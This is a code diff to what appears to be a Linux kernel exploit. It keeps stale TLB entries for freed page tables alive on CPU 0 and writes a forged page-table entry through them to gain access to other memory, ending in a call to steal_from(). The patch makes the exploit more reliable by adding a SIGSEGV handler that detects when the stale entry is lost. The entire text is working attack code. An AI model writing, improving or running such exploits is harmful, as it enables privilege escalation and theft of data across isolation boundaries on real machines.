@@ -11,6 +11,8 @@
 
 #include <poll.h>
 #include <sched.h>
+#include <setjmp.h>
+#include <signal.h>
 
 #define MAX_TABLES	1600
 #define MAX_LEVELS	5	/* of page tables */
@@ -455,32 +457,42 @@ struct stale {
 #define STALE_ADDR	(shared->words[1])
 #define STALE_VALUE	(shared->words[2])
 #define STALE_STATE	((volatile u64 *)&shared->words[3])
-enum { TOUCHING, TOUCHED, FREED, WRITING, WRITTEN, ENDING };
+enum { TOUCHING, TOUCHED, FREED, WRITING, LOST, WRITTEN, ENDING };
+
+static sigjmp_buf not_in_tlb;
 
 static char *stale_page(const struct stale *s, unsigned int i)
 {
 	return s->memory + i * STALE_STEP * PAGE_SIZE;
 }
 
-/* On CPU 0, which nobody asks to flush its TLB. */
+static void lose(int sig)
+{
+	(void)sig;
+	siglongjmp(not_in_tlb, 1);
+}
+
+/* On CPU 0, which nobody asks to flush its TLB; it may need the place for others. */
 static int keep_in_tlb(void *arg)
 {
 	struct stale *s = arg;
 	unsigned int i;
+
+	signal(SIGSEGV, lose);
 
 	run_on_cpu(0);
 	poll(NULL, 0, 1);
 	for (i = 0; i < NR_STALE; i++)
 		*(volatile u64 *)stale_page(s, i) = 1;
 	*STALE_STATE = TOUCHED;
-	while (*STALE_STATE != WRITING && *STALE_STATE != ENDING)
-		;
-	if (*STALE_STATE == WRITING) {
+	if (sigsetjmp(not_in_tlb, 1))
+		*STALE_STATE = LOST;
+	while (*STALE_STATE != ENDING) {
+		if (*STALE_STATE != WRITING)
+			continue;
 		*(volatile u64 *)STALE_ADDR = STALE_VALUE;
 		*STALE_STATE = WRITTEN;
 	}
-	while (*STALE_STATE != ENDING)
-		;
 	return 0;
 }
 
@@ -557,7 +569,10 @@ static int use_stale_table(void *arg)
 			STALE_ADDR = (uintptr_t)stale_page(s, i) + last * 8;
 			STALE_VALUE = leaf(leak.secret);
 			*STALE_STATE = WRITING;
-			wait_for(STALE_STATE, WRITTEN);
+			while (*STALE_STATE == WRITING)
+				usleep(1000);
+			if (*STALE_STATE == LOST)
+				break;
 			steal_from(range + last * PAGE_SIZE);
 			return 0;
 		}
